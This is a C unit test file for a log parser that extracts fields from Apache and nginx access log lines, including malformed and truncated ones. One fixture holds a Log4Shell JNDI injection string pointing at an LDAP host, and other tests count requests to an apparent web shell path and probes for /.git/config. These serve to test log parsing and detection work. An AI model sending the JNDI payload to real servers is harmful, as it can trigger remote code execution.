#include "trl_test.h"

#include "core/timeutil.h"
#include "formats/parse.h"

#define TRL_TEST_PARSER trl_parse_access_log
#include "parse_test.h"

static void test_access_combined_nginx_line(void **state)
{
    (void)state;
    struct trl_event *ev =
        parse("203.0.113.45 - - [09/Jul/2024:22:14:02 +0000] \"POST /portal/upload.php HTTP/1.1\" "
              "200 61 \"https://www.example.org/portal/upload.php\" \"Mozilla/5.0 (Windows NT "
              "10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
              "Safari/537.36\"\n");
    assert_string_equal(ev->format, "access");
    assert_true(ev->timestamp_ns == 1720563242LL * TRL_NS_PER_SEC);
    assert_field(ev, TRL_F_SOURCE_IP, "203.0.113.45");
    assert_field(ev, TRL_F_USER_NAME, NULL);
    assert_field(ev, TRL_F_HTTP_REQUEST_METHOD, "POST");
    assert_field(ev, TRL_F_URL_ORIGINAL, "/portal/upload.php");
    assert_field(ev, TRL_F_URL_PATH, "/portal/upload.php");
    assert_field(ev, TRL_F_URL_QUERY, NULL);
    assert_field(ev, TRL_F_URL_EXTENSION, "php");
    assert_field(ev, TRL_F_HTTP_VERSION, "1.1");
    assert_field(ev, TRL_F_HTTP_RESPONSE_STATUS_CODE, "200");
    assert_field(ev, TRL_F_HTTP_RESPONSE_BODY_BYTES, "61");
    assert_field(ev, TRL_F_HTTP_REQUEST_REFERRER, "https://www.example.org/portal/upload.php");
    assert_field(ev, TRL_F_USER_AGENT_ORIGINAL,
                 "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                 "Gecko) Chrome/126.0.0.0 Safari/537.36");
    assert_field(ev, TRL_F_EVENT_KIND, "event");
    assert_string_equal(array(ev, TRL_F_EVENT_CATEGORY), "web");
    assert_string_equal(array(ev, TRL_F_EVENT_TYPE), "access");
    assert_field(ev, TRL_F_EVENT_ACTION, "http-request");
    assert_field(ev, TRL_F_EVENT_OUTCOME, "success");
    assert_string_equal(array(ev, TRL_F_RELATED_IP), "203.0.113.45");
}

static void test_access_log4shell_probe_query_and_agent(void **state)
{
    (void)state;
    struct trl_event *ev =
        parse("203.0.113.45 - - [09/Jul/2024:22:10:13 +0000] \"GET "
              "/?x=${jndi:ldap://198.51.100.77:1389/a} HTTP/1.1\" 200 5120 \"-\" "
              "\"${jndi:ldap://198.51.100.77:1389/a}\"");
    assert_field(ev, TRL_F_URL_PATH, "/");
    assert_field(ev, TRL_F_URL_QUERY, "x=${jndi:ldap://198.51.100.77:1389/a}");
    assert_field(ev, TRL_F_URL_EXTENSION, NULL);
    assert_field(ev, TRL_F_HTTP_REQUEST_REFERRER, NULL);
    assert_field(ev, TRL_F_USER_AGENT_ORIGINAL, "${jndi:ldap://198.51.100.77:1389/a}");
}

static void test_access_status_404_is_failure_and_dash_bytes_absent(void **state)
{
    (void)state;
    struct trl_event *ev = parse("203.0.113.45 - - [09/Jul/2024:22:10:11 +0000] \"GET "
                                 "/.git/config HTTP/1.1\" 404 - \"-\" \"Go-http-client/1.1\"");
    assert_field(ev, TRL_F_HTTP_RESPONSE_STATUS_CODE, "404");
    assert_field(ev, TRL_F_EVENT_OUTCOME, "failure");
    assert_field(ev, TRL_F_HTTP_RESPONSE_BODY_BYTES, NULL);
    assert_field(ev, TRL_F_URL_EXTENSION, NULL);
}

static void test_access_common_format_user_and_offset(void **state)
{
    (void)state;
    struct trl_event *ev =
        parse("10.0.0.5 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.GIF HTTP/1.0\" 200 "
              "2326");
    assert_field(ev, TRL_F_USER_NAME, "frank");
    assert_string_equal(array(ev, TRL_F_RELATED_USER), "frank");
    /* 13:55:36 at -07:00 is 20:55:36 UTC. */
    assert_true(ev->timestamp_ns == 971211336LL * TRL_NS_PER_SEC);
    assert_field(ev, TRL_F_URL_EXTENSION, "gif");
    assert_field(ev, TRL_F_HTTP_VERSION, "1.0");
    assert_field(ev, TRL_F_USER_AGENT_ORIGINAL, NULL);
}

static void test_access_vhost_combined(void **state)
{
    (void)state;
    struct trl_event *ev =
        parse("www.example.org:443 192.0.2.201 - - [09/Jul/2024:22:21:30 +0200] \"GET "
              "/static/app.css?v=3 HTTP/2.0\" 200 8841 \"https://www.example.org/\" \"curl/8.5\"");
    assert_field(ev, TRL_F_DESTINATION_DOMAIN, "www.example.org");
    assert_field(ev, TRL_F_DESTINATION_PORT, "443");
    assert_field(ev, TRL_F_SOURCE_IP, "192.0.2.201");
    assert_field(ev, TRL_F_HTTP_VERSION, "2.0");
    assert_field(ev, TRL_F_URL_QUERY, "v=3");
    assert_field(ev, TRL_F_URL_EXTENSION, "css");
    assert_true(ev->timestamp_ns == (1720563690LL - 7200) * TRL_NS_PER_SEC);
}

static void test_access_nginx_extra_fields_ignored_and_ipv6_client(void **state)
{
    (void)state;
    struct trl_event *ev =
        parse("2001:db8::7 - - [09/Jul/2024:22:10:11 +0000] \"GET /a.tar.GZ#frag HTTP/1.1\" 304 0 "
              "\"-\" \"Wget\" \"198.51.100.1, 10.0.0.1\" rt=0.004 uct=\"0.000\"");
    assert_field(ev, TRL_F_SOURCE_IP, "2001:db8::7");
    assert_field(ev, TRL_F_URL_PATH, "/a.tar.GZ");
    assert_field(ev, TRL_F_URL_EXTENSION, "gz");
    assert_field(ev, TRL_F_USER_AGENT_ORIGINAL, "Wget");
    assert_field(ev, TRL_F_EVENT_OUTCOME, "success");
}

static void test_access_hostname_client_and_absolute_url(void **state)
{
    (void)state;
    struct trl_event *ev =
        parse("client.example.net - - [09/Jul/2024:22:10:11 +0000] \"GET "
              "http://user@evil.example:8080/x.PHP?a=1 HTTP/1.1\" 502 157 \"-\" \"-\"");
    assert_field(ev, TRL_F_SOURCE_IP, NULL);
    assert_field(ev, TRL_F_SOURCE_ADDRESS, "client.example.net");
    assert_field(ev, TRL_F_URL_DOMAIN, "evil.example");
    assert_field(ev, TRL_F_URL_PATH, "/x.PHP");
    assert_field(ev, TRL_F_URL_QUERY, "a=1");
    assert_field(ev, TRL_F_URL_EXTENSION, "php");
    assert_field(ev, TRL_F_USER_AGENT_ORIGINAL, NULL);
    assert_field(ev, TRL_F_EVENT_OUTCOME, "failure");

    ev = parse("192.0.2.1 - - [09/Jul/2024:22:10:11 +0000] \"CONNECT example.com:443 HTTP/1.1\" "
               "405 0");
    assert_field(ev, TRL_F_HTTP_REQUEST_METHOD, "CONNECT");
    assert_field(ev, TRL_F_URL_ORIGINAL, "example.com:443");
    assert_field(ev, TRL_F_URL_PATH, NULL);
}

static void test_access_garbage_requests_parse_what_is_there(void **state)
{
    (void)state;
    /* TLS ClientHello sent to the plain HTTP port, as nginx escapes it. */
    struct trl_event *ev =
        parse("198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] "
              "\"\\x16\\x03\\x01\\x00\\xFC\\x01\\x00\\x00\\xF8\\x03\\x03\" 400 157 \"-\" \"-\"");
    assert_field(ev, TRL_F_HTTP_RESPONSE_STATUS_CODE, "400");
    assert_field(ev, TRL_F_HTTP_REQUEST_METHOD, NULL);
    assert_field(ev, TRL_F_URL_ORIGINAL, NULL);
    assert_field(ev, TRL_F_EVENT_OUTCOME, "failure");

    ev = parse("198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] \"-\" 408 0 \"-\" \"-\"");
    assert_field(ev, TRL_F_HTTP_RESPONSE_STATUS_CODE, "408");
    assert_field(ev, TRL_F_HTTP_REQUEST_METHOD, NULL);

    /* Apache writes a quote inside the request as \"; the request still ends at the real quote. */
    ev = parse("198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] \"GET /a\\\"b\\\" 200 1 "
               "HTTP/1.1\" 400 226 \"-\" \"x\\\"y\"");
    assert_field(ev, TRL_F_HTTP_RESPONSE_STATUS_CODE, "400");
    assert_field(ev, TRL_F_URL_ORIGINAL, "/a\\\"b\\\" 200 1");
    assert_field(ev, TRL_F_USER_AGENT_ORIGINAL, "x\\\"y");
    /* A server that does not escape: a quote not followed by a status is part of the request. */
    ev = parse("198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] \"GET /a\"b HTTP/1.1\" 400 1");
    assert_field(ev, TRL_F_URL_ORIGINAL, "/a\"b");
    assert_field(ev, TRL_F_HTTP_VERSION, "1.1");

    /* A method only, an unknown version, an empty request. */
    ev = parse("198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] \"GET /x\" 400 0");
    assert_field(ev, TRL_F_URL_ORIGINAL, "/x");
    assert_field(ev, TRL_F_HTTP_VERSION, NULL);
    ev = parse("198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] \"GET /x HTTP/\" 400 0");
    assert_field(ev, TRL_F_URL_ORIGINAL, "/x HTTP/");
    ev = parse("198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] \"\" 400 0");
    assert_field(ev, TRL_F_URL_ORIGINAL, NULL);
    ev = parse("198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] \"GET / HTTP/1.1\" - -");
    assert_field(ev, TRL_F_HTTP_RESPONSE_STATUS_CODE, NULL);
    assert_field(ev, TRL_F_EVENT_OUTCOME, NULL);
}

static void test_access_rejects_other_formats(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "",
        "-",
        "Jul  9 22:10:13 web01 sshd[1234]: Accepted password for root from 10.0.0.5 port 22 ssh2",
        "<34>Jul  9 22:10:13 web01 nginx: 1.2.3.4 - - [09/Jul/2024:22:10:13 +0000] \"GET / "
        "HTTP/1.1\" 200 1",
        "<165>1 2024-07-09T22:10:13.000Z web01 app 1 ID47 - hello",
        "web01\tMSWinEventLog\t1\tSecurity\t1\tTue Jul 09 22:10:13 2024\t4625",
        "{\"remote_addr\":\"1.2.3.4\",\"status\":200}",
        "CEF:0|Vendor|Product|1.0|100|Name|5|src=1.2.3.4",
        "type=SYSCALL msg=audit(1720563243.412:8801): arch=c000003e",
        "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000]",
        "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1\"",
        "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1\" 20 1",
        "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1\" 2000 1",
        "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1\" 200 12x",
        "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1 200 1",
        "1.2.3.4 - - [9/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [09/Jux/2024:22:10:13 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [09/Jul/2024:25:10:13 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [09/Jul/2024:22:10:13] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [09/Jul/4048:22:10:13 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [09/Jul/1969:22:10:13 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - [09/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1\" 200 1",
        "a b c d e [09/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4  - - [09/Jul/2024:22:10:13 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000]\"GET / HTTP/1.1\" 200 1",
    };
    assert_not_matched(lines, TRL_ARRAY_LEN(lines));
}

static void test_access_inside_syslog_keeps_syslog_format(void **state)
{
    (void)state;
    const char *msg = "192.0.2.200 - - [09/Jul/2024:22:09:58 +0000] \"GET / HTTP/1.1\" 200 5120 "
                      "\"-\" \"Mozilla/5.0\"";
    int rc;
    struct trl_event *ev = parse_as(msg, strlen(msg), "rfc3164", &rc);
    assert_int_equal(rc, TRL_OK);
    assert_string_equal(ev->format, "rfc3164");
    assert_field(ev, TRL_F_SOURCE_IP, "192.0.2.200");
    assert_field(ev, TRL_F_EVENT_ACTION, "http-request");
}

static void test_access_sample_files_parse_every_line(void **state)
{
    (void)state;
    const char *shared = trl_test_shared_dir();
    if (!shared)
        skip();
    static const char *const files[] = {"web01-nginx-access.log", "web01-apache-access.log"};
    for (size_t f = 0; f < TRL_ARRAY_LEN(files); f++) {
        char path[1024], line[4096];
        snprintf(path, sizeof(path), "%s/data/linux-samples/%s", shared, files[f]);
        FILE *fp = fopen(path, "r");
        assert_non_null(fp);
        size_t lines = 0, from_ioc = 0, not_found = 0, shell = 0;
        while (fgets(line, sizeof(line), fp)) {
            struct trl_event *ev = parse(line);
            lines++;
            from_ioc += trl_event_is(ev, TRL_F_SOURCE_IP, "203.0.113.45");
            not_found += trl_event_is(ev, TRL_F_HTTP_RESPONSE_STATUS_CODE, "404");
            shell += trl_event_is(ev, TRL_F_URL_PATH, "/uploads/img/thumb.php");
        }
        fclose(fp);
        assert_int_equal(lines, 14);
        assert_int_equal(from_ioc, 12);
        assert_int_equal(not_found, 3);
        assert_int_equal(shell, 6);
    }
}

static void test_access_every_truncation_is_safe(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "www.example.org:443 203.0.113.45 - bob [09/Jul/2024:22:14:02 +0000] \"POST "
        "http://h:1/portal/upload.php?a=b HTTP/1.1\" 200 61 \"https://r/\" \"Mozilla/5.0\" 0.1",
        "198.51.100.9 - - [09/Jul/2024:22:10:11 +0000] \"GET /a\\\"b\" 200 1 HTTP/1.1\" 400 226 "
        "\"-\" \"x\\\"y\\",
    };
    assert_truncations_safe(lines, TRL_ARRAY_LEN(lines), false);
}

static void test_access_nul_bytes_and_huge_fields(void **state)
{
    (void)state;
    static const char nul[] = "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000] \"GET /a\0b HTTP/1.1\" "
                              "200 1 \"-\" \"ua\0x\"";
    int rc;
    struct trl_event *ev = parse_as(nul, sizeof(nul) - 1, NULL, &rc);
    assert_int_equal(rc, TRL_OK);
    size_t len;
    assert_non_null(trl_event_get(ev, TRL_F_URL_PATH, &len));
    assert_int_equal(len, 4);

    size_t n = 100000;
    char *line = malloc(n + 200);
    size_t off = (size_t)snprintf(line, 200, "1.2.3.4 - - [09/Jul/2024:22:10:13 +0000] \"GET /");
    memset(line + off, 'a', n);
    off += n;
    off += (size_t)snprintf(line + off, 200, ".php HTTP/1.1\" 200 1 \"-\" \"ua\"");
    ev = parse_as(line, off, NULL, &rc);
    assert_int_equal(rc, TRL_OK);
    assert_field(ev, TRL_F_URL_EXTENSION, "php");
    free(line);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_access_combined_nginx_line),
        cmocka_unit_test(test_access_log4shell_probe_query_and_agent),
        cmocka_unit_test(test_access_status_404_is_failure_and_dash_bytes_absent),
        cmocka_unit_test(test_access_common_format_user_and_offset),
        cmocka_unit_test(test_access_vhost_combined),
        cmocka_unit_test(test_access_nginx_extra_fields_ignored_and_ipv6_client),
        cmocka_unit_test(test_access_hostname_client_and_absolute_url),
        cmocka_unit_test(test_access_garbage_requests_parse_what_is_there),
        cmocka_unit_test(test_access_rejects_other_formats),
        cmocka_unit_test(test_access_inside_syslog_keeps_syslog_format),
        cmocka_unit_test(test_access_sample_files_parse_every_line),
        cmocka_unit_test(test_access_every_truncation_is_safe),
        cmocka_unit_test(test_access_nul_bytes_and_huge_fields),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
